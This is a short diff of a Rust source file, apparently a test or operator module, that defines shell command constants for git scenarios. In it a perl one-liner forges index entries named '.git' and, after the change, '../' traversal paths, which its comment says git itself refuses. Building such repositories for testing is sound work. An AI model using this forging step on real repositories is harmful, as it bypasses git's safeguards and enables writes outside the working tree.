@@ -9,7 +9,7 @@ use super::operator::Operator;
 const STATUS: &str = "cd repo && git status; git log -1; git diff HEAD; git commit --dry-run";
 
 /// Writes `.git` for `+git` into an index, which git itself refuses; the names sort as they did.
-const FORGE: &str = "perl -pi -e 's/\\+git/.git/g; s/\\+\\+/../g'";
+const FORGE: &str = "perl -pi -e 's/\\+git/.git/g; s/\\+\\+\\//..\\//g'";
 
 /// Makes 15 directories of 240 characters, and goes there.
 const DEEP: &str =
